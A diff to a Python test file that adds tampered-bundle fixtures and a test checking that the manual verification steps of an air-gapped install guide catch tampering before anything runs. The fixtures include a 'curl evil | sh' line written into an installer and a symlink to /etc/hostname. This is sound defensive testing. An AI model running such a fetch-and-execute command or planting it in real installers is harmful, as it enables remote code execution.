@@ -256,6 +256,10 @@ def change_the_installer(folder: Path) -> None:
         file.write("curl evil | sh\n")
 
 
+def replace_the_installer(folder: Path) -> None:
+    (folder / "install.sh").write_text("echo install: signature and sums hold\n")
+
+
 def change_a_sum_too(folder: Path) -> None:
     change_the_installer(folder)
     (folder / archive.SUMS).write_bytes(archive.sums(folder))
@@ -268,9 +272,11 @@ def unsign(folder: Path) -> None:
 TAMPERED: dict[str, Callable[[Path], None]] = {
     "a changed layer": change_a_blob,
     "a changed installer": change_the_installer,
+    "another installer": replace_the_installer,
     "a changed installer with its sum": change_a_sum_too,
     "a file too many": lambda folder: (folder / "recipes/extra.json").write_text("{}") and None,
     "a file too few": lambda folder: (folder / "release.yaml").unlink(),
+    "a link too many": lambda folder: (folder / "recipes/extra.json").symlink_to("/etc/hostname"),
     "no signature": unsign,
 }
 
@@ -381,7 +387,28 @@ def test_images_that_are_there_are_not_loaded_again(workplace: Path, device: Pat
     assert (device / "state/loaded").read_text() == "before"
 
 
-@pytest.mark.parametrize("change", TAMPERED.values(), ids=TAMPERED)
+def check_by_hand(device: Path, key: Path) -> int:
+    """The commands of docs/air-gapped.md that come before anything of the bundle runs."""
+    page = (ROOT / "docs/air-gapped.md").read_text()
+    commands = page[page.index("base64 -d SHA256SUMS.sig") :].partition("```")[0]
+    script = "set -e\n" + commands.replace("/tmp/bundle.sig", str(device / "sig")).replace(
+        "/media/admin/release.pem", str(key)
+    )
+    return subprocess.run(
+        ["sh", "-c", script], cwd=device / "bundle", capture_output=True, timeout=60, check=False
+    ).returncode
+
+
+def test_what_was_tampered_with_is_found_before_anything_of_it_runs(workplace: Path, device: Path) -> None:
+    assert check_by_hand(device, workplace / "keys/release.pem") == 0
+    for number, change in enumerate(change for name, change in TAMPERED.items() if "too many" not in name):
+        copy = device / f"copy-{number}"
+        shutil.copytree(device / "bundle", copy / "bundle")
+        change(copy / "bundle")
+        assert check_by_hand(copy, workplace / "keys/release.pem") != 0, change
+
+
+@pytest.mark.parametrize("change", [one for one in TAMPERED.values() if one is not replace_the_installer])
 def test_the_installer_refuses_what_was_tampered_with_before_it_loads(
     workplace: Path, device: Path, change: Callable[[Path], None]
 ) -> None:
